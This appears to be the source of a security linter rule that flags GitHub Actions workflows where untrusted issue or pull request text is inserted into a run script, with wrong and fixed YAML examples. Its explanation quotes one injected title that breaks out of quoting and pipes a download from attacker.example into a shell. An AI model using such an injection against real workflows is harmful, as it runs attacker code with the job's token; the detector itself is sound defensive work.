import type { ManifestNode } from '../manifest-yaml.js';
import { defineManifestRule } from '../rule.js';
import { eventsWith, isUntrusted } from '../workflow/expressions.js';
import { jobReach } from '../workflow/job-reach.js';
import { callersOf, originsIn, type Scope } from '../workflow/origins.js';
import { jobOfStep, type Workflow, type WorkflowStep } from '../workflow/workflow.js';
import { textOf, valueAt } from '../yaml-values.js';

export default defineManifestRule({
  id: 'GHA-INJECT',
  name: 'no-template-injection',
  severity: 'high',
  severityReason:
    'Who opens an issue or a pull request runs commands with the token of the job; medium if only events without secrets for forks have the text',
  practice: 'image-security',
  ofAnyWorkflow: true,
  title: 'Untrusted text becomes part of a script',
  why: 'GitHub puts the value into the script before the shell reads it. A title such as `"; curl attacker.example | sh; "` runs as a command with the token of the job.',
  remediation:
    'Put the value into `env` of the step, and use that variable in the script, in quotation marks',
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  wrong: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.event.pull_request.title }}"`,
  right: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: \${{ github.event.pull_request.title }}\n        run: echo "$TITLE"`,
  check(manifest, report) {
    const { workflow } = manifest;
    if (!workflow) return;
    const callers = callersOf(manifest, manifest.allManifests);
    const events = eventsOf(workflow, callers);
    const onLimit = (reason: string) => manifest.onLimit?.(manifest.path, reason);
    for (const job of workflow.jobs)
      for (const step of job.steps)
        for (const script of scriptsOf(step)) {
          const origins = originsIn(textOf(script), { workflow, job, step, callers, onLimit });
          const { name, about } = jobOfStep(manifest.path, job, step);
          for (const value of origins.filter(isUntrusted)) {
            const carriers = eventsWith(value)?.filter((event) => events?.has(event) ?? true);
            // None of the events that start the workflow has the value, so it is empty.
            if (carriers?.length === 0) continue;
            report({
              ...(carriers?.every((event) => WITHOUT_SECRETS.has(event)) &&
                events && { severity: 'medium' as const }),
              at: script.key,
              about: `${about} ${value}`,
              reach: jobReach(workflow, job),
              message: `Anyone can put commands into the script of job ${name} by ${value}`,
            });
          }
        }
  },
});

/** The events that start a workflow, by itself or by those that call it; undefined if a workflow elsewhere may call it, or use the action. */
function eventsOf(
  { events }: Workflow,
  callers: readonly Scope[],
): ReadonlySet<string> | undefined {
  if (!events.has('workflow_call')) return events.size > 0 ? events : undefined;
  if (callers.length === 0) return undefined;
  const above = callers.map((caller) => eventsOf(caller.workflow, caller.callers));
  if (above.includes(undefined)) return undefined;
  return new Set([...events, ...above.flatMap((one) => [...(one ?? [])])]);
}

/**
 * With these, what comes from a fork runs without secrets and with a token that can only read, and may change the workflow as
 * well; who pushes can write anyway. Source: GitHub, "Events that trigger workflows".
 */
const WITHOUT_SECRETS: ReadonlySet<string> = new Set([
  'pull_request',
  'pull_request_review',
  'pull_request_review_comment',
  'push',
  'merge_group',
]);

/** The script of a step, and the command that runs it. */
function scriptsOf({ node, uses, run, with: inputs }: WorkflowStep): ManifestNode[] {
  const script = run ?? (uses?.name === 'actions/github-script' ? inputs.get('script') : undefined);
  return [script, valueAt(node, 'shell')].flatMap((one) => one ?? []);
}
